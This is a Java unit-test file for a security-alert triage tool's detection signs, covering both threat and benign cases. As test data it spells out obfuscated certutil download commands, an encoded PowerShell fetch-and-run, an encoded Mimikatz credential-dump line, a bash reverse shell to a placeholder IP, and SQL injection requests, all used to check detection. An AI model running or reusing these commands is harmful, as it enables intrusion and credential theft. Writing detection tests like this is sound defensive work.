package dev.analystcopilot.triage.sign;

import static org.assertj.core.api.Assertions.assertThat;

import dev.analystcopilot.knowledge.alert.Severity;
import dev.analystcopilot.knowledge.alert.Verdict;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SignsTest {
    private static final String POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

    private final Signs signs = Signs.load();

    @Test
    void aTitleAloneShowsNothing() {
        assertThat(signs.of(Bodies.alert("Mimikatz detected", "{\"name\":\"Mimikatz detected\",\"host\":\"a\"}")))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "certutil -urlcache -split -f http://192.0.2.7/a.exe a.exe",
                "cert^ut^il -url^cache -split -f http://192.0.2.7/a.exe a.exe",
                "CERTUTIL.EXE  –urlcache -f \"http\"+\"://192.0.2.7/a.exe\" a.exe",
                "c`ert`util /urlcache &quot;http://192.0.2.7/a.exe&quot;"
            })
    void tricksHideNoWord(String command) {
        assertThat(signs.of(Bodies.command("C:\\Windows\\System32\\cmd.exe", command)))
                .contains("certutil-fetch");
    }

    @Test
    void encodedCommandsAreLookedInto() {
        String command = encoded("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')");

        assertThat(signs.of(Bodies.command(POWERSHELL, "powershell -enc " + command)))
                .contains("fetch-and-run", "powershell-encoded");
    }

    @Test
    void whatIsEncodedInsideTheEncodedIsLookedInto() {
        String inner = encoded("Invoke-Mimikatz -DumpCreds");
        String command = encoded("powershell -w hidden -enc " + inner);

        assertThat(signs.of(Bodies.command(POWERSHELL, "powershell -enc " + command)))
                .contains("credential-tool");
    }

    @Test
    void anEncodedCommandThatIsHarmlessInsideIsExplained() {
        String command = encoded("Get-Printer | Sort-Object Name | Format-Table -AutoSize");

        assertThat(signs.of(Bodies.command(POWERSHELL, "powershell -enc " + command)))
                .contains("decoded-harmless")
                .doesNotContain("powershell-encoded");
    }

    @Test
    void aManagementAgentExplainsItsEncodedCommands() {
        String command = encoded("Get-CimInstance Win32_BIOS | Select SerialNumber");

        assertThat(signs.of(Bodies.windows(Map.of(
                        "image",
                        POWERSHELL,
                        "commandLine",
                        "powershell.exe -NoProfile -EncodedCommand " + command,
                        "parentImage",
                        "C:\\Windows\\CCM\\CcmExec.exe"))))
                .contains("management-agent")
                .doesNotContain("powershell-encoded");
    }

    @Test
    void aSystemProgramOutsideItsFolderIsSeen() {
        assertThat(signs.of(Bodies.command("C:\\Users\\Public\\svchost.exe", "svchost.exe -k netsvcs")))
                .contains("misplaced-system-program", "odd-folder-run");
    }

    @Test
    void aReverseShellIsSeenInAPlainLine() {
        assertThat(signs.of(Bodies.log("Command executed", "bash: CMD: bash -i >& /dev/tcp/192.0.2.7/443 0>&1")))
                .contains("reverse-shell");
    }

    @Test
    void anAdministratorsPackageUpdateIsEveryday() {
        List<String> found = signs.of(Bodies.log(
                "Successful sudo to ROOT executed.",
                "sudo: ana : TTY=pts/0 ; PWD=/home/ana ; USER=root ; COMMAND=/usr/bin/apt upgrade"));

        assertThat(SignScore.of(signs, found, 3, Severity.INFORMATIONAL).verdict(false))
                .isEqualTo(Verdict.BENIGN);
    }

    @Test
    void theSameSudoByTheWebServersAccountIsAnAttack() {
        List<String> found = signs.of(Bodies.log(
                "Successful sudo to ROOT executed.",
                "sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash"));

        assertThat(SignScore.of(signs, found, 3, Severity.INFORMATIONAL).verdict(false))
                .isEqualTo(Verdict.TRUE_POSITIVE);
    }

    @Test
    void everySignSaysItInBothLanguages() {
        assertThat(signs.all()).allSatisfy(sign -> {
            assertThat(sign.words().en()).isNotBlank();
            assertThat(sign.words().zh()).isNotBlank();
        });
    }

    @Test
    void whatThreatensAndWhatIsEverydayAreBothKnown() {
        assertThat(signs.all()).anyMatch(Sign::threatens).anyMatch(sign -> !sign.threatens());
    }

    @Test
    void explanationsNameSignsThatExist() {
        assertThat(signs.explained()).allMatch(id -> signs.find(id).isPresent());
    }

    private static String encoded(String script) {
        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GET /item.php?id=7%27%20or%20%271%27=%271 HTTP/1.1",
                "GET /login?user=admin'+or+1=1-- HTTP/1.1",
                "GET /login?user=admin') or 'a' like 'a HTTP/1.1"
            })
    void conditionsThatAlwaysHoldAreInjections(String request) {
        assertThat(signs.of(Bodies.log("Web request", request))).contains("injection");
    }

    @Test
    void quotedWordsInASentenceAreNoInjection() {
        assertThat(signs.of(Bodies.log(
                        "Mail rule",
                        "Rule '.' moves mail containing 'invoice', 'password' or 'security' to RSS Feeds")))
                .doesNotContain("injection");
    }
}
